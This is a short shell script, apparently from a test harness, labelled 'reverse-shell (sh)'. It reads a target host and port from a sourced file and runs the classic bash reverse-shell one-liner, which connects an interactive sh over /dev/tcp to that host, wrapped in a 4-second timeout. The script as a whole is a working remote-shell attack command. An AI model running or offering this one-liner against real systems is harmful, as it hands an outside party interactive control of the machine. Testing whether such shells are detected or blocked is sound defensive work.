#!/bin/sh
# reverse-shell (sh): the one-liner; the shell ends when the attacker hangs
# up (here: after the listener's one answer).
. "${TARGETS:-$1}"
timeout 4 bash -c 'sh -i >& "/dev/tcp/$0/$1" 0>&1' "$T_TCP_HOST" "$T_TCP_PORT"
